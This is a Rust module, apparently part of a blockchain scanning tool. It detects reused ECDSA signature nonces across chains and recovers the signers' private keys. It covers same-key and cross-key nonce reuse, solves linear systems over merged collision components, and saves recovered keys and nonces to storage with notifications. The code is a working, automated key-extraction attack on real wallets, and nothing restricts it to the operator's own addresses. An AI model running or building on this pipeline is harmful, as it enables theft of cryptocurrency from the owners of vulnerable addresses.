//! Collision orchestration: classify R-value collisions, run the recovery
//! math, and keep the pending cross-key graph moving.
//!
//! Workers pull events off the bounded channel; every mutation goes through
//! the idempotent storage operations, so workers can run in parallel and
//! events can be replayed after a crash without corrupting state.

use std::collections::HashMap;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use k256::Scalar;
use tokio::sync::{mpsc, Mutex};
use tracing::{error, info, warn};

use crate::config;
use crate::math;
use crate::recovery;
use crate::retry::{with_retries, RetryConfig};
use crate::rpc::{ChainRpc, TxSigningData};
use crate::scanner::CollisionEvent;
use crate::storage::{PendingComponent, RecoveredKey, RecoveredNonce, Storage};
use crate::linear::LinearSystem;
use crate::notify::Notifier;

/// Number of worker tasks draining the collision channel.
pub const WORKER_POOL_SIZE: usize = 5;

/// One fetched signature participating in a component's linear system.
struct SigRow {
    tx_hash: String,
    chain_id: u64,
    from: String,
    z: Scalar,
    r: Scalar,
    s: Scalar,
    r_hex: String,
}

pub struct Orchestrator {
    storage: Arc<dyn Storage>,
    rpc: Arc<dyn ChainRpc>,
    notifier: Notifier,
    recovery_enabled: AtomicBool,
    retry: RetryConfig,
}

impl Orchestrator {
    pub fn new(storage: Arc<dyn Storage>, rpc: Arc<dyn ChainRpc>, notifier: Notifier) -> Self {
        Self {
            storage,
            rpc,
            notifier,
            recovery_enabled: AtomicBool::new(true),
            retry: RetryConfig::default(),
        }
    }

    pub fn set_recovery_enabled(&self, enabled: bool) {
        self.recovery_enabled.store(enabled, Ordering::SeqCst);
    }

    pub fn recovery_enabled(&self) -> bool {
        self.recovery_enabled.load(Ordering::SeqCst)
    }

    /// Spawn the worker pool over a shared receiver. Workers exit when the
    /// channel closes.
    pub fn spawn_workers(
        self: &Arc<Self>,
        rx: mpsc::Receiver<CollisionEvent>,
        count: usize,
    ) -> Vec<tokio::task::JoinHandle<()>> {
        let rx = Arc::new(Mutex::new(rx));
        (0..count)
            .map(|_| {
                let orchestrator = Arc::clone(self);
                let rx = Arc::clone(&rx);
                tokio::spawn(async move {
                    loop {
                        let event = { rx.lock().await.recv().await };
                        let Some(event) = event else { break };
                        if !orchestrator.recovery_enabled() {
                            continue;
                        }
                        orchestrator.handle_collision(&event).await;
                    }
                })
            })
            .collect()
    }

    async fn fetch_signing_data(
        &self,
        chain_id: u64,
        tx_hash: &str,
    ) -> Result<TxSigningData, crate::rpc::RpcError> {
        with_retries(&self.retry, || self.rpc.tx_signing_data(chain_id, tx_hash)).await
    }

    pub async fn handle_collision(&self, event: &CollisionEvent) {
        info!(
            "[collision] r={} tx1={} (chain {}) tx2={} (chain {})",
            short(&event.r_value),
            short(&event.first_tx.tx_hash),
            event.first_tx.chain_id,
            short(&event.new_tx_hash),
            event.new_chain_id
        );

        let tx1 = match self
            .fetch_signing_data(event.first_tx.chain_id, &event.first_tx.tx_hash)
            .await
        {
            Ok(data) => data,
            Err(e) => {
                error!("[collision] failed to fetch witness tx: {e}");
                return;
            }
        };
        let tx2 = match self
            .fetch_signing_data(event.new_chain_id, &event.new_tx_hash)
            .await
        {
            Ok(data) => data,
            Err(e) => {
                error!("[collision] failed to fetch new tx: {e}");
                return;
            }
        };

        let is_same_key = tx1.from.eq_ignore_ascii_case(&tx2.from);
        if let Err(e) = self
            .notifier
            .notify_collision(&event.r_value, &tx2.from, event.new_chain_id, is_same_key)
            .await
        {
            warn!("[notify] collision notification failed: {e}");
        }

        if is_same_key {
            info!("[collision] same-key reuse for {}", tx1.from);
            self.same_key_recovery(event, &tx1, &tx2).await;
            return;
        }

        match self.storage.get_recovered_nonce(&event.r_value).await {
            Ok(Some(nonce)) => {
                info!("[collision] cross-key with known nonce");
                self.cross_key_recovery_with_nonce(event, &tx2, &nonce).await;
            }
            Ok(None) => {
                info!("[collision] cross-key collision, not yet solvable");
                self.record_pending(event, &tx1, &tx2).await;
            }
            Err(e) => {
                error!("[collision] nonce lookup failed: {e}");
            }
        }
    }

    async fn same_key_recovery(
        &self,
        event: &CollisionEvent,
        tx1: &TxSigningData,
        tx2: &TxSigningData,
    ) {
        let chain_id = event.first_tx.chain_id;
        match self.storage.is_key_recovered(&tx1.from, chain_id).await {
            Ok(true) => {
                info!("[recovery] key already recovered for {}", tx1.from);
                return;
            }
            Ok(false) => {}
            Err(e) => {
                error!("[recovery] lookup failed: {e}");
                return;
            }
        }

        let d = match recovery::recover_from_signatures(
            &tx1.z, &tx1.r, &tx1.s, &tx2.z, &tx2.r, &tx2.s, &tx1.from,
        ) {
            Ok(d) => d,
            Err(e) => {
                error!("[recovery] same-key recovery failed: {e}");
                return;
            }
        };

        let key = RecoveredKey {
            address: tx1.from.clone(),
            private_key: math::scalar_to_hex(&d),
            chain_id,
            r_values: vec![event.r_value.clone()],
            tx_hashes: vec![event.first_tx.tx_hash.clone(), event.new_tx_hash.clone()],
            ..Default::default()
        };
        let key_id = match self.storage.save_recovered_key(&key).await {
            Ok(id) => id,
            Err(e) => {
                error!("[recovery] failed to save key: {e}");
                return;
            }
        };
        info!("[recovery] recovered key for {}", tx1.from);
        if let Err(e) = self
            .notifier
            .notify_key_recovered(&tx1.from, &config::chain_name(chain_id), 2)
            .await
        {
            warn!("[notify] recovery notification failed: {e}");
        }

        // The nonce only matters if someone else reused it.
        match self
            .storage
            .has_cross_key_potential(&event.r_value, &tx1.from)
            .await
        {
            Ok(true) => {
                let k = match recovery::derive_nonce(&tx1.z, &tx1.r, &tx1.s, &d) {
                    Ok(k) => k,
                    Err(e) => {
                        error!("[recovery] nonce derivation failed: {e}");
                        return;
                    }
                };
                let nonce = RecoveredNonce {
                    r_value: event.r_value.clone(),
                    k_value: math::scalar_to_hex(&k),
                    derived_from_key_id: key_id,
                };
                if let Err(e) = self.storage.save_recovered_nonce(&nonce).await {
                    error!("[recovery] failed to save nonce: {e}");
                    return;
                }
                info!(
                    "[recovery] saved nonce for cross-key recovery (r={})",
                    short(&event.r_value)
                );
                self.process_new_nonces(vec![event.r_value.clone()]).await;
            }
            Ok(false) => {}
            Err(e) => warn!("[recovery] cross-key potential lookup failed: {e}"),
        }
    }

    async fn cross_key_recovery_with_nonce(
        &self,
        event: &CollisionEvent,
        tx: &TxSigningData,
        nonce: &RecoveredNonce,
    ) {
        match self
            .storage
            .is_key_recovered(&tx.from, event.new_chain_id)
            .await
        {
            Ok(true) => return,
            Ok(false) => {}
            Err(e) => {
                error!("[recovery] lookup failed: {e}");
                return;
            }
        }

        let k = match math::scalar_from_hex(&nonce.k_value) {
            Ok(k) => k,
            Err(e) => {
                error!("[recovery] stored nonce unparseable: {e}");
                return;
            }
        };
        let d = match recovery::recover_with_known_nonce(&tx.z, &tx.r, &tx.s, &k) {
            Ok(d) => d,
            Err(e) => {
                error!("[recovery] cross-key recovery failed: {e}");
                return;
            }
        };
        if !recovery::verify_private_key(&d, &tx.from) {
            error!("[recovery] cross-key verification failed for {}", tx.from);
            return;
        }

        let key = RecoveredKey {
            address: tx.from.clone(),
            private_key: math::scalar_to_hex(&d),
            chain_id: event.new_chain_id,
            r_values: vec![event.r_value.clone()],
            tx_hashes: vec![event.new_tx_hash.clone()],
            ..Default::default()
        };
        match self.storage.save_recovered_key(&key).await {
            Ok(_) => {
                info!("[recovery] recovered key (cross-key) for {}", tx.from);
                if let Err(e) = self
                    .notifier
                    .notify_key_recovered(&tx.from, &config::chain_name(event.new_chain_id), 1)
                    .await
                {
                    warn!("[notify] recovery notification failed: {e}");
                }
            }
            Err(e) => error!("[recovery] failed to save key: {e}"),
        }
    }

    /// Record an unsolvable cross-key collision, merging it with every
    /// pending component it touches. Components sharing an address or an R
    /// value belong to one linear system; merging is what eventually turns
    /// cyclic reuse graphs solvable.
    async fn record_pending(
        &self,
        event: &CollisionEvent,
        tx1: &TxSigningData,
        tx2: &TxSigningData,
    ) {
        let fresh = PendingComponent {
            r_values: vec![event.r_value.clone()],
            tx_hashes: vec![event.first_tx.tx_hash.clone(), event.new_tx_hash.clone()],
            addresses: vec![tx1.from.clone(), tx2.from.clone()],
            chain_ids: vec![event.first_tx.chain_id, event.new_chain_id],
            equations: 2,
            unknowns: 3,
            ..Default::default()
        };

        let existing = match self.storage.get_pending_components().await {
            Ok(comps) => comps,
            Err(e) => {
                error!("[pending] failed to load components: {e}");
                return;
            }
        };
        let (mut merged, absorbed) = merge_components(fresh, existing);

        merged.unknowns = match self.count_unknowns(&merged).await {
            Ok(unknowns) => unknowns,
            Err(e) => {
                error!("[pending] failed to count unknowns: {e}");
                merged.unknowns
            }
        };
        merged.equations = merged.tx_hashes.len() as u32;

        if merged.equations >= merged.unknowns && self.try_solve_component(&merged).await {
            for id in absorbed {
                let _ = self.storage.delete_pending_component(id).await;
            }
            return;
        }

        match self.storage.save_pending_component(&merged).await {
            Ok(kept_id) => {
                for id in absorbed {
                    if id != kept_id {
                        let _ = self.storage.delete_pending_component(id).await;
                    }
                }
            }
            Err(e) => error!("[pending] failed to save component: {e}"),
        }
    }

    /// Worklist pass over pending components after nonces become known.
    /// Solving one component can recover keys and nonces that unlock the
    /// next, so freshly learned R values feed back into the queue.
    pub async fn process_new_nonces(&self, mut queue: Vec<String>) {
        while let Some(r_value) = queue.pop() {
            let comps = match self.storage.get_pending_components().await {
                Ok(comps) => comps,
                Err(e) => {
                    error!("[pending] failed to load components: {e}");
                    return;
                }
            };
            for comp in comps.into_iter().filter(|c| c.r_values.contains(&r_value)) {
                let mut comp = comp;
                comp.unknowns = match self.count_unknowns(&comp).await {
                    Ok(unknowns) => unknowns,
                    Err(e) => {
                        error!("[pending] failed to count unknowns: {e}");
                        continue;
                    }
                };
                comp.equations = comp.tx_hashes.len() as u32;

                if comp.equations >= comp.unknowns {
                    info!("[pending] component {} now solvable", comp.id);
                    if self.try_solve_component(&comp).await {
                        let _ = self.storage.delete_pending_component(comp.id).await;
                        queue.extend(comp.r_values.iter().cloned());
                        continue;
                    }
                }
                let _ = self.storage.save_pending_component(&comp).await;
            }
        }
    }

    /// Unknowns = unresolved nonces + unrecovered keys in the component.
    async fn count_unknowns(
        &self,
        comp: &PendingComponent,
    ) -> Result<u32, crate::storage::StorageError> {
        let mut unknowns = 0u32;
        for r_value in dedup(&comp.r_values) {
            if self.storage.get_recovered_nonce(&r_value).await?.is_none() {
                unknowns += 1;
            }
        }
        let addr_chains = address_chains(comp);
        for (address, chain_id) in addr_chains {
            if !self.storage.is_key_recovered(&address, chain_id).await? {
                unknowns += 1;
            }
        }
        Ok(unknowns)
    }

    /// Build the component's linear system, solve it, verify every solution
    /// and persist. Returns true when the component is fully resolved.
    async fn try_solve_component(&self, comp: &PendingComponent) -> bool {
        let rows = match self.fetch_component_rows(comp).await {
            Ok(rows) => rows,
            Err(e) => {
                warn!("[pending] failed to fetch component signatures: {e}");
                return false;
            }
        };
        if rows.is_empty() {
            return false;
        }

        // Known nonces and keys enter as constants; the rest are variables.
        let mut known_nonces: HashMap<String, Scalar> = HashMap::new();
        let mut known_keys: HashMap<String, Scalar> = HashMap::new();
        let mut existing_key_ids: HashMap<String, i64> = HashMap::new();
        for row in &rows {
            if !known_nonces.contains_key(&row.r_hex) {
                match self.storage.get_recovered_nonce(&row.r_hex).await {
                    Ok(Some(nonce)) => {
                        if let Ok(k) = math::scalar_from_hex(&nonce.k_value) {
                            known_nonces.insert(row.r_hex.clone(), k);
                        }
                    }
                    Ok(None) => {}
                    Err(e) => {
                        warn!("[pending] nonce lookup failed: {e}");
                        return false;
                    }
                }
            }
        }
        match self.storage.get_recovered_keys().await {
            Ok(keys) => {
                for key in keys {
                    if rows.iter().any(|r| r.from == key.address) {
                        if let Ok(d) = math::scalar_from_hex(&key.private_key) {
                            known_keys.insert(key.address.clone(), d);
                            existing_key_ids.insert(key.address, key.id);
                        }
                    }
                }
            }
            Err(e) => {
                warn!("[pending] key lookup failed: {e}");
                return false;
            }
        }

        let mut system = LinearSystem::new();
        let mut nonce_vars: HashMap<String, usize> = HashMap::new();
        let mut key_vars: HashMap<String, usize> = HashMap::new();
        for row in &rows {
            if !known_nonces.contains_key(&row.r_hex) && !nonce_vars.contains_key(&row.r_hex) {
                let idx = system.add_variable(format!("k:{}", row.r_hex));
                nonce_vars.insert(row.r_hex.clone(), idx);
            }
            if !known_keys.contains_key(&row.from) && !key_vars.contains_key(&row.from) {
                let idx = system.add_variable(format!("d:{}", row.from));
                key_vars.insert(row.from.clone(), idx);
            }
        }

        // Per signature: s*k - r*d = z, constants folded into the RHS.
        for row in &rows {
            let mut coeffs = HashMap::new();
            let mut constant = row.z;
            match nonce_vars.get(&row.r_hex) {
                Some(&idx) => {
                    coeffs.insert(idx, row.s);
                }
                None => {
                    let k = known_nonces[&row.r_hex];
                    constant -= row.s * k;
                }
            }
            match key_vars.get(&row.from) {
                Some(&idx) => {
                    coeffs.insert(idx, -row.r);
                }
                None => {
                    let d = known_keys[&row.from];
                    constant += row.r * d;
                }
            }
            system.add_equation(&coeffs, constant);
        }

        let solution = match system.solve() {
            Ok(solution) => solution,
            Err(e) => {
                info!("[pending] component not solvable yet: {e}");
                return false;
            }
        };

        // Verify everything before persisting anything.
        for address in key_vars.keys() {
            let d = solution[&format!("d:{address}")];
            if !recovery::verify_private_key(&d, address) {
                error!("[pending] solved key for {address} failed verification");
                return false;
            }
        }
        for r_hex in nonce_vars.keys() {
            let k = solution[&format!("k:{r_hex}")];
            let expected = match math::scalar_from_hex(r_hex) {
                Ok(r) => r,
                Err(_) => return false,
            };
            match recovery::nonce_commitment(&k) {
                Ok(commitment) if commitment == expected => {}
                _ => {
                    error!("[pending] solved nonce for {} failed verification", r_hex);
                    return false;
                }
            }
        }

        // Keys first so nonces can reference their ids.
        let addr_chains: HashMap<String, u64> = address_chains(comp).into_iter().collect();
        let mut key_ids = existing_key_ids;
        for address in key_vars.keys() {
            let d = solution[&format!("d:{address}")];
            let chain_id = addr_chains.get(address).copied().unwrap_or_default();
            let tx_hashes: Vec<String> = rows
                .iter()
                .filter(|r| &r.from == address)
                .map(|r| r.tx_hash.clone())
                .collect();
            let r_values: Vec<String> = dedup(
                &rows
                    .iter()
                    .filter(|r| &r.from == address)
                    .map(|r| r.r_hex.clone())
                    .collect::<Vec<_>>(),
            );
            let key = RecoveredKey {
                address: address.clone(),
                private_key: math::scalar_to_hex(&d),
                chain_id,
                r_values,
                tx_hashes,
                ..Default::default()
            };
            match self.storage.save_recovered_key(&key).await {
                Ok(id) => {
                    info!("[recovery] recovered key (component) for {address}");
                    key_ids.insert(address.clone(), id);
                    if let Err(e) = self
                        .notifier
                        .notify_key_recovered(address, &config::chain_name(chain_id), 1)
                        .await
                    {
                        warn!("[notify] recovery notification failed: {e}");
                    }
                }
                Err(e) => {
                    error!("[pending] failed to save solved key: {e}");
                    return false;
                }
            }
        }

        for r_hex in nonce_vars.keys() {
            let k = solution[&format!("k:{r_hex}")];
            let derived_from = rows
                .iter()
                .find(|row| &row.r_hex == r_hex)
                .and_then(|row| key_ids.get(&row.from))
                .copied()
                .unwrap_or_default();
            let nonce = RecoveredNonce {
                r_value: r_hex.clone(),
                k_value: math::scalar_to_hex(&k),
                derived_from_key_id: derived_from,
            };
            if let Err(e) = self.storage.save_recovered_nonce(&nonce).await {
                error!("[pending] failed to save solved nonce: {e}");
                return false;
            }
        }

        true
    }

    async fn fetch_component_rows(
        &self,
        comp: &PendingComponent,
    ) -> Result<Vec<SigRow>, crate::rpc::RpcError> {
        let mut rows = Vec::with_capacity(comp.tx_hashes.len());
        for (tx_hash, chain_id) in comp.tx_hashes.iter().zip(&comp.chain_ids) {
            let data = self.fetch_signing_data(*chain_id, tx_hash).await?;
            rows.push(SigRow {
                tx_hash: tx_hash.clone(),
                chain_id: *chain_id,
                from: data.from.clone(),
                z: data.z,
                r: data.r,
                s: data.s,
                r_hex: math::scalar_to_hex(&data.r),
            });
        }
        Ok(rows)
    }
}

fn short(hex: &str) -> &str {
    &hex[..hex.len().min(18)]
}

fn dedup(values: &[String]) -> Vec<String> {
    let mut out: Vec<String> = values.to_vec();
    out.sort();
    out.dedup();
    out
}

/// Each address paired with the chain of its first appearance.
fn address_chains(comp: &PendingComponent) -> Vec<(String, u64)> {
    let mut seen = HashMap::new();
    for (address, chain_id) in comp.addresses.iter().zip(&comp.chain_ids) {
        seen.entry(address.clone()).or_insert(*chain_id);
    }
    let mut out: Vec<(String, u64)> = seen.into_iter().collect();
    out.sort();
    out
}

/// Union the fresh component with every existing component it is connected
/// to (shared address or shared R), transitively. Returns the merged
/// component and the ids of the absorbed rows.
fn merge_components(
    fresh: PendingComponent,
    existing: Vec<PendingComponent>,
) -> (PendingComponent, Vec<i64>) {
    let mut merged = fresh;
    let mut absorbed = Vec::new();
    let mut remaining = existing;

    loop {
        let mut progressed = false;
        let mut keep = Vec::new();
        for comp in remaining {
            let connected = comp.r_values.iter().any(|r| merged.r_values.contains(r))
                || comp
                    .addresses
                    .iter()
                    .any(|a| merged.addresses.contains(a));
            if connected {
                absorbed.push(comp.id);
                // tx_hashes, chain_ids and addresses stay parallel: index i
                // describes signature i.
                for ((tx_hash, chain_id), address) in comp
                    .tx_hashes
                    .iter()
                    .zip(&comp.chain_ids)
                    .zip(&comp.addresses)
                {
                    if !merged.tx_hashes.contains(tx_hash) {
                        merged.tx_hashes.push(tx_hash.clone());
                        merged.chain_ids.push(*chain_id);
                        merged.addresses.push(address.clone());
                    }
                }
                for r_value in comp.r_values {
                    if !merged.r_values.contains(&r_value) {
                        merged.r_values.push(r_value);
                    }
                }
                progressed = true;
            } else {
                keep.push(comp);
            }
        }
        remaining = keep;
        if !progressed {
            break;
        }
    }

    merged.equations = merged.tx_hashes.len() as u32;
    (merged, absorbed)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn comp(
        id: i64,
        rs: &[&str],
        txs: &[(&str, u64)],
        addrs: &[&str],
    ) -> PendingComponent {
        PendingComponent {
            id,
            r_values: rs.iter().map(|s| s.to_string()).collect(),
            tx_hashes: txs.iter().map(|(t, _)| t.to_string()).collect(),
            chain_ids: txs.iter().map(|(_, c)| *c).collect(),
            addresses: addrs.iter().map(|s| s.to_string()).collect(),
            equations: txs.len() as u32,
            unknowns: 0,
        }
    }

    #[test]
    fn test_merge_disjoint_components_stay_apart() {
        let fresh = comp(0, &["0xr1"], &[("0xt1", 1), ("0xt2", 1)], &["0xa", "0xb"]);
        let other = comp(7, &["0xr9"], &[("0xt8", 1), ("0xt9", 1)], &["0xx", "0xy"]);
        let (merged, absorbed) = merge_components(fresh, vec![other]);
        assert!(absorbed.is_empty());
        assert_eq!(merged.tx_hashes.len(), 2);
    }

    #[test]
    fn test_merge_on_shared_address() {
        let fresh = comp(0, &["0xr2"], &[("0xt3", 1), ("0xt4", 1)], &["0xb", "0xc"]);
        let other = comp(3, &["0xr1"], &[("0xt1", 1), ("0xt2", 1)], &["0xa", "0xb"]);
        let (merged, absorbed) = merge_components(fresh, vec![other]);
        assert_eq!(absorbed, vec![3]);
        assert_eq!(merged.tx_hashes.len(), 4);
        assert_eq!(merged.r_values.len(), 2);
        // addresses stay parallel to tx_hashes; 3 distinct signers.
        assert_eq!(merged.addresses.len(), 4);
        assert_eq!(address_chains(&merged).len(), 3);
        assert_eq!(merged.equations, 4);
    }

    #[test]
    fn test_merge_is_transitive() {
        // fresh touches B; B's component touches A; A's touches Z.
        let fresh = comp(0, &["0xr3"], &[("0xt5", 1), ("0xt6", 1)], &["0xc", "0xb"]);
        let ab = comp(1, &["0xr1"], &[("0xt1", 1), ("0xt2", 1)], &["0xa", "0xb"]);
        let az = comp(2, &["0xr2"], &[("0xt3", 1), ("0xt4", 1)], &["0xa", "0xz"]);
        let (merged, mut absorbed) = merge_components(fresh, vec![az, ab]);
        absorbed.sort_unstable();
        assert_eq!(absorbed, vec![1, 2]);
        assert_eq!(address_chains(&merged).len(), 4);
        assert_eq!(merged.tx_hashes.len(), 6);
    }

    #[test]
    fn test_merge_dedups_shared_txs() {
        let fresh = comp(0, &["0xr1"], &[("0xt1", 1), ("0xt2", 1)], &["0xa", "0xb"]);
        let same = comp(5, &["0xr1"], &[("0xt1", 1), ("0xt2", 1)], &["0xa", "0xb"]);
        let (merged, absorbed) = merge_components(fresh, vec![same]);
        assert_eq!(absorbed, vec![5]);
        assert_eq!(merged.tx_hashes.len(), 2);
        assert_eq!(merged.chain_ids.len(), 2);
    }

    #[test]
    fn test_address_chains_first_occurrence_wins() {
        let c = PendingComponent {
            addresses: vec!["0xa".into(), "0xb".into(), "0xa".into()],
            chain_ids: vec![1, 56, 137],
            ..Default::default()
        };
        let pairs = address_chains(&c);
        assert_eq!(pairs, vec![("0xa".to_string(), 1), ("0xb".to_string(), 56)]);
    }
}
